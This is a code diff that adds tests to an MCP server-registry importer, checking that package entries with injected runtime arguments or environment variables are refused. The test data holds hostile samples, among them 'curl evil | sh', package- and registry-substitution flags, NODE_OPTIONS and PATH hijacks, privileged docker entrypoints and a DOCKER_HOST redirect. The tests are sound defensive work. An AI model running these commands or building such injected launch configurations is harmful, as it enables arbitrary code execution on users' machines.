@@ -135,10 +135,76 @@ describe(`importing a server.json ${claim('P-MCP-GW.registry')}`, () => {
     ['another runtime', { runtimeHint: 'bash' }, 'it wants bash'],
     ['a checksum', { fileSha256: 'a'.repeat(64) }, 'SHA-256'],
     ['another transport', { transport: { type: 'sse' } }, 'add its URL'],
+    ['another package before it', { runtimeArguments: [{ type: 'positional', value: 'evil' }] }, 'npx "evil"'],
+    ['a word that is asked for before it', { runtimeArguments: [{ type: 'positional', valueHint: 'x' }] }, 'npx "x"'],
+    ['another package', { runtimeArguments: [{ type: 'named', name: '--package', value: 'evil' }] }, '"--package"'],
+    [
+      'another package in one',
+      { runtimeArguments: [{ type: 'positional', value: '--package=evil' }] },
+      '--package=evil',
+    ],
+    ['a shell', { runtimeArguments: [{ type: 'named', name: '-c', value: 'curl evil | sh' }] }, 'npx "-c"'],
+    ['a flag and a word', { runtimeArguments: [{ type: 'named', name: '-y', value: 'evil' }] }, 'npx "-y"'],
+    ['another registry in an option', { runtimeArguments: [{ type: 'named', name: '--registry' }] }, '"--registry"'],
+    ['another registry in a variable', { environmentVariables: [{ name: 'npm_config_registry' }] }, 'npx itself'],
+    ['a module loaded first', { environmentVariables: [{ name: 'NODE_OPTIONS', value: '-r x' }] }, 'NODE_OPTIONS'],
+    ['other programs first', { environmentVariables: [{ name: 'PATH', value: '/tmp/evil' }] }, 'PATH'],
   ])('does not make a command of a package with %s', (_what, more, reason) => {
     const found = offer({ packages: [npm(more)] });
     expect(found.unusable).toContain(reason);
     expect(() => found.entry({}, keep)).toThrow(reason);
+  });
+
+  it('takes what documents commonly tell these programs', () => {
+    const yes = npm({
+      runtimeArguments: [
+        { type: 'positional', value: '-y' },
+        { type: 'named', name: '-q' },
+      ],
+    });
+    expect(entryOf({ packages: [yes] })).toEqual({ command: 'npx', args: ['-y', '-y', '@example/weather@1.0.2'] });
+    const pypi = { registryType: 'pypi', identifier: 'weather', version: '0.5.0', transport: { type: 'stdio' } };
+    const from = {
+      ...pypi,
+      runtimeArguments: [{ type: 'positional', value: '--from' }],
+      packageArguments: [{ type: 'positional', value: 'weather-mcp' }],
+    };
+    expect(entryOf({ packages: [from] })).toEqual({ command: 'uvx', args: ['--from', 'weather@0.5.0', 'weather-mcp'] });
+    const oci = { registryType: 'oci', identifier: 'example/weather:1', transport: { type: 'stdio' } };
+    const value = 'type=bind,src={folder},dst=/data';
+    const mounting = {
+      ...oci,
+      runtimeArguments: [{ type: 'named', name: '--mount', value, variables: { folder: { isRequired: true } } }],
+    };
+    expect(entryOf({ packages: [mounting] }, { folder: '/srv' })).toEqual({
+      command: 'docker',
+      args: ['run', '-i', '--rm', '--mount=type=bind,src=/srv,dst=/data', 'example/weather:1'],
+    });
+    for (const stray of [
+      { type: 'named', name: '--from', value: 'evil' },
+      { type: 'named', name: '--from', default: 'evil' },
+      { type: 'positional', value: '--from=evil' },
+      { type: 'positional', value: '--with=evil' },
+    ])
+      expect(offer({ packages: [{ ...pypi, runtimeArguments: [stray] }] }).unusable).toContain('something else');
+    for (const stray of [
+      { type: 'positional', value: 'evil/image' },
+      { type: 'named', name: '--privileged', value: 'true' },
+      { type: 'named', name: '-i', value: 'evil/image' },
+      { type: 'named', name: '--entrypoint', value: '/bin/sh' },
+    ])
+      expect(offer({ packages: [{ ...oci, runtimeArguments: [stray] }] }).unusable).toContain('something else');
+    expect(
+      offer({ packages: [{ ...oci, environmentVariables: [{ name: 'DOCKER_HOST', value: 'tcp://evil' }] }] }).unusable,
+    ).toContain('DOCKER_HOST');
+  });
+
+  it('is not kept busy by a version', () => {
+    const version = `1${'a'.repeat(100_000)}!`;
+    const pypi = { registryType: 'pypi', identifier: 'weather', version, transport: { type: 'stdio' } };
+    expect(offer({ packages: [pypi] }).unusable).toContain('no exact version');
+    for (const exact of ['1', '0.5.0', '1.0.0rc1', '2024.1.1.post1', '1.0+local.1', '1.0a1'])
+      expect(offer({ packages: [{ ...pypi, version: exact }] }).unusable).toBeUndefined();
   });
 
   it('reads what a registry answers, and says what is wrong with a document', () => {
